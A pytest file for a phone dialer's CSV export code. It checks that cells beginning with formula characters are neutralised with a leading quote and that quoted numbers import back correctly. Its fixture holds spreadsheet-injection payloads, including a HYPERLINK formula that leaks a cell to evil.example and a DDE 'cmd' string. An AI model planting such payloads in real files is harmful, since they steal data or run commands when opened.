"""Issue 14, exports: no CSV the dialer writes starts a cell with a formula, and the numbers
quoted that way import back as the same numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from dialer.core.csv_cells import FORMULA_STARTS, neutral_row, neutralize
from dialer.db.exports import write_csv
from dialer.lists import NumberError, normalize_number, parse_list

HOSTILE = {
    "note": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "phone": "+12125550100",
    "plain": "Ada Lovelace",
    "inner": "a=b, c+d",
    "seconds": -1.5,
    "count": 3,
    "empty": "",
}


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    out = neutral_row(HOSTILE)
    for key in ("note", "plus", "minus", "at", "tab", "cr", "phone"):
        assert out[key] == "'" + HOSTILE[key]  # type: ignore[operator]
    for key in ("plain", "inner", "seconds", "count", "empty"):
        assert out[key] == HOSTILE[key]
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert neutralize(None) is None


def test_write_csv_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    assert write_csv(path, [HOSTILE, dict(HOSTILE, plain="=1")], list(HOSTILE)) == 2
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for key, value in row.items():
            # a Python number is written as itself: "-1.5" is a number to a spreadsheet too
            assert key == "seconds" or not value.startswith(FORMULA_STARTS), value
    assert rows[0]["note"] == "'" + str(HOSTILE["note"])
    assert rows[0]["seconds"] == "-1.5" and rows[1]["plain"] == "'=1"


def test_write_csv_to_standard_output_is_neutralised_too(
        capsys: pytest.CaptureFixture[str]) -> None:
    write_csv(None, [{"note": "@x"}])
    assert capsys.readouterr().out.splitlines() == ["note", "'@x"]


def test_the_compliance_report_csv_is_neutralised() -> None:
    from dialer.cli.report import _csv

    text = _csv(["number", "n"], [{"number": "+12125550100", "n": 2}])
    assert list(csv.reader(io.StringIO(text))) == [["number", "n"], ["'+12125550100", "2"]]


def test_a_quoted_number_imports_back_as_the_number() -> None:
    assert normalize_number("'+12125550100", "US") == "+12125550100"
    assert normalize_number(" '(212) 555-0100", "US") == "+12125550100"
    with pytest.raises(NumberError, match="empty number"):
        normalize_number("'", "US")
    exported = io.StringIO()
    write_csv_rows = [{"name": "=Ada", "phone": "+12125550100"}]
    writer = csv.DictWriter(exported, fieldnames=["name", "phone"])
    writer.writeheader()
    writer.writerows(neutral_row(r) for r in write_csv_rows)
    parsed = parse_list(exported.getvalue().encode())
    assert parsed.ok
    assert [c.numbers for c in parsed.contacts] == [("+12125550100",)]
